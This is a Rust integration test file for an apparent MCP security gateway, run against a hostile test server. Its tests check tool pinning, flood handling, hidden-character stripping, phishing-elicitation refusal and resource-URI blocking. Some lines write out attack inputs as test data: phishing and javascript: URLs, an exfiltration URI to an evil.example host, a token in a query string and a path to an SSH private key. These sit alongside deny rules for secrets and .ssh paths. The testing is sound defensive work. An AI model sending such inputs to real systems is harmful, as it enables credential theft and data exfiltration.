//! A server that attacks (`clients/mcp_hostile.py`), and what its client hears of it under the policy that users get.

use serde_json::{Value, json};

use crate::world::{Talk, World, have, root};

const CLEAN: &str = "version: \"1\"\ndefault_action: allow\npolicies:\n  - name: clean\n    match: { tool: [mcp] }\n    rules:\n      - { action: redact, when: { detects: [hidden-text] } }\n  - name: told\n    match: { tool: [mcp], phase: before }\n    rules:\n      - { action: deny, when: { detects: [hidden-text] } }\n";

/// A session with the server.
struct Session(Talk, u32);

impl Session {
    fn open(world: &World, flags: &[&str]) -> Self {
        let mut command = world.rampart(&["mcp", "--name", "hostile"]);
        command.args(flags).arg("--").arg("python3").arg(root().join("tests/clients/mcp_hostile.py"));
        let mut session = Self(
            Talk::start({
                command.arg(world.path("log"));
                command
            })
            .that_is_slow(),
            0,
        );
        session.ask("initialize", json!({"protocolVersion": "2025-11-25", "capabilities": {}}));
        session
    }

    /// What is heard until the answer comes, the answer last.
    fn hear(&mut self, method: &str, params: Value) -> Vec<Value> {
        self.1 += 1;
        self.0.say(&json!({"jsonrpc": "2.0", "id": self.1, "method": method, "params": params}).to_string());
        let mut heard = Vec::new();
        loop {
            heard.push(self.0.hear_json());
            if heard.last().is_some_and(|last: &Value| last["id"] == self.1) {
                return heard;
            }
        }
    }

    fn ask(&mut self, method: &str, params: Value) -> Value {
        self.hear(method, params).pop().unwrap()
    }

    fn call(&mut self, tool: &str, arguments: Value) -> Value {
        self.ask("tools/call", json!({"name": tool, "arguments": arguments}))
    }

    /// The names of both pages.
    fn list(&mut self) -> Vec<String> {
        let pages = [json!({}), json!({"cursor": "2"})].map(|params| self.ask("tools/list", params));
        let tools = pages.iter().flat_map(|page| page["result"]["tools"].as_array().unwrap());
        tools.map(|tool| tool["name"].as_str().unwrap().to_owned()).collect()
    }
}

fn text(answer: &Value) -> &str {
    answer["result"]["content"][0]["text"].as_str().unwrap_or_else(|| panic!("{answer}"))
}

fn world(test: &str, policy: Option<&str>) -> Option<World> {
    if !have(test, &["python3"]) {
        return None;
    }
    let mut world = policy.map_or_else(World::new, World::with_policy);
    // A flood keeps a gateway that is not optimised from giving signs of life where the machine is busy besides.
    world.config("listen: 127.0.0.1:0\negress: {listen: '127.0.0.1:0'}\nsurfaces: {deadline: 20s}\n");
    world.serve(&[]);
    Some(world)
}

#[test]
fn lists_that_change_by_calls_pages_and_sessions_are_what_they_were_at_first() {
    let test = "lists_that_change_by_calls_pages_and_sessions_are_what_they_were_at_first";
    let Some(world) = world(test, None) else { return };
    let mut first = Session::open(&world, &[]);
    let before = first.list();
    assert_eq!(before.len(), 10, "both pages are trusted at first use: {before:?}");
    for _ in 0..3 {
        assert_eq!(text(&first.call("plain", json!({}))), "done");
    }
    let after = first.list();
    assert_eq!(after, before[1..], "the one that changed after three calls is hidden");
    assert!(text(&first.call("plain", json!({}))).contains("pins diff"), "and refused");
    assert_eq!(text(&first.call("twice", json!({}))), "done", "the others are not");
    let mut second = Session::open(&world, &[]);
    assert!(text(&second.call("of-this-session", json!({}))).contains("not_pinned"), "before any list");
    assert_eq!(second.list(), before, "what only this session is offered is hidden; what has changed back is not");
}

#[test]
fn answers_to_nobody_and_second_ones_go_nowhere() {
    let Some(world) = world("answers_to_nobody_and_second_ones_go_nowhere", None) else { return };
    let mut session = Session::open(&world, &["--pins", "off"]);
    for tool in ["twice", "wrong-id", "plain"] {
        let heard = session.hear("tools/call", json!({"name": tool}));
        assert_eq!(heard.len(), 1, "{tool}: {heard:?}");
        assert_eq!(text(&heard[0]), "done", "{tool}");
    }
    // A flood is counted, and the session lives.
    let heard = session.hear("tools/call", json!({"name": "flood"}));
    assert_eq!(text(heard.last().unwrap()), "done");
    assert!(heard.iter().all(|message| message.get("method").is_some() || message["id"].as_u64() < Some(100_000)));
    let ended = session.0.finish();
    assert!(
        ended.stderr.contains("messages passed") && ended.stderr.contains(" 5005 went nowhere"),
        "{}",
        ended.stderr
    );
    let dropped = world.records().iter().filter(|r| r["action"]["method"] == "rampart/dropped").count();
    assert!((5..=15).contains(&dropped), "{dropped} records");
}

#[test]
fn hidden_characters_reach_the_client_in_no_field() {
    let Some(world) = world("hidden_characters_reach_the_client_in_no_field", Some(CLEAN)) else { return };
    let mut session = Session::open(&world, &["--pins", "off"]);
    for error in [false, true] {
        let params = json!({"name": "hidden", "arguments": {"error": error}, "_meta": {"progressToken": "p"}});
        let heard = session.hear("tools/call", params);
        let all = serde_json::to_string(&heard).unwrap();
        for hidden in ["\u{e0069}", "\u{202e}", "\u{200b}", "\\u001b"] {
            assert!(!all.contains(hidden), "{hidden:?} in {all}");
        }
        let answer = heard.last().unwrap();
        if error {
            assert_eq!(answer["error"]["code"], 1, "{answer}");
        } else {
            assert_eq!(answer["result"]["content"].as_array().unwrap().len(), 3, "its shape is what it was: {answer}");
        }
    }
}

#[test]
fn what_is_too_much_ends_in_an_error_and_the_session_goes_on() {
    let Some(world) = world("what_is_too_much_ends_in_an_error_and_the_session_goes_on", None) else { return };
    let mut session = Session::open(&world, &["--schemas", "check"]);
    session.list();
    let endless = session.call("endless", json!({}));
    assert!(text(&endless).contains("longer than"), "{endless}");
    let bomb = session.call("bomb", json!({"x": {"y": 1}}));
    assert!(text(&bomb).contains("makes too much work"), "{bomb}");
    assert_eq!(text(&session.call("plain", json!({}))), "done");
}

#[test]
fn phishing_and_abuse_of_the_model_are_refused() {
    let Some(world) = world("phishing_and_abuse_of_the_model_are_refused", None) else { return };
    let mut session = Session::open(&world, &["--pins", "off"]);
    let form = |field: &str| json!({"message": "?", "requestedSchema": {"type": "object", "properties": {field: {"type": "string"}}}});
    let page = |url: &str| json!({"mode": "url", "message": "?", "elicitationId": "e", "url": url});
    let asks = |more: Value| {
        let mut asks = json!({"messages": [], "maxTokens": 10});
        asks.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        asks
    };
    for (tool, arguments) in [
        ("elicit", form("password")),
        ("elicit", page("http://login.example")),
        ("elicit", page("javascript:alert(1)")),
        ("elicit", page("https://bank.example@evil.example/")),
        ("sample", asks(json!({"includeContext": "allServers"}))),
        ("sample", asks(json!({"tools": [{"name": "run", "inputSchema": {}}]}))),
        ("sample", asks(json!({"maxTokens": 1_000_000}))),
    ] {
        // The client hears only the answer of the tool, in which the server tells what it was told.
        let heard = session.hear("tools/call", json!({"name": tool, "arguments": arguments}));
        assert!(heard.len() == 1 && text(&heard[0]).contains("-31403"), "{tool} {arguments}: {heard:?}");
    }
}

#[test]
fn resource_uris_carry_no_secrets_out_and_lead_to_no_file_that_rules_protect() {
    let test = "resource_uris_carry_no_secrets_out_and_lead_to_no_file_that_rules_protect";
    let policy = "version: \"1\"\ndefault_action: allow\npolicies:\n  - name: no-leaks\n    match: { tool: mcp, phase: before }\n    rules:\n      - { action: deny, when: { detects: [secret] } }\n      - { action: deny, when: { domain_matches: [\"*.evil.example\"] } }\n  - name: keys\n    match: { tool: read }\n    rules: [{ action: deny, when: { path_matches: [\"**/.ssh/**\"] } }]\n";
    let Some(world) = world(test, Some(policy)) else { return };
    let mut session = Session::open(&world, &["--pins", "off"]);
    let secret = ["ghp_", "16C7e42F292c6912E7710c838347Ae178B4a"].concat();
    for uri in [
        format!("https://api.example/?q={secret}"),
        "https://x.evil.example/collect?d=1".to_owned(),
        "file:///root/.ssh/id_rsa".to_owned(),
    ] {
        let answer = session.ask("resources/read", json!({"uri": uri}));
        assert_eq!(answer["error"]["code"], -31_403, "{uri}: {answer}");
    }
    let log = std::fs::read_to_string(world.path("log")).unwrap();
    assert!(!log.contains("resources/read"), "the server heard of none: {log}");
    let fine = session.ask("resources/read", json!({"uri": "docs://guide"}));
    assert_eq!(fine["result"]["contents"][0]["text"], "read");
}
